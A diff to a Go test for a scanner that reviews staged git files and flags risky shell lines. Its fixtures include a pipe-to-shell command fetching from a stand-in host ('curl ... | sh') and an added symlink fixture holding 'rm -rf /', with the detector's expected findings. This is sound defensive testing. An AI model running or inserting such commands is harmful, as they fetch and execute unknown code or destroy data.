@@ -546,7 +546,9 @@ func TestStaged(t *testing.T) {
 	for _, f := range files {
 		names = append(names, f.Path+"="+strings.TrimSpace(string(f.Src)))
 	}
-	want := []string{"a.sh=curl -fsSL https://x.example | sh", "b.sh=echo staged-clean", "sub dir/del.sh=ls"}
+	// link.sh is staged as a link to committed.sh: its content is the
+	// target's, as staged.
+	want := []string{"a.sh=curl -fsSL https://x.example | sh", "b.sh=echo staged-clean", "link.sh=rm -rf /", "sub dir/del.sh=ls"}
 	if !reflect.DeepEqual(names, want) {
 		t.Errorf("Staged = %q, want %q", names, want)
 	}
@@ -558,7 +560,7 @@ func TestStaged(t *testing.T) {
 	for _, f := range r.Exceeding(review.B) {
 		got = append(got, fmt.Sprintf("%s:%d %s", f.Path, f.Line, f.Rule))
 	}
-	if want := []string{"a.sh:1 fake-pipe-shell"}; !reflect.DeepEqual(got, want) {
+	if want := []string{"a.sh:1 fake-pipe-shell", "link.sh:1 fake-rm-root"}; !reflect.DeepEqual(got, want) {
 		t.Errorf("staged findings %q, want %q", got, want)
 	}
 
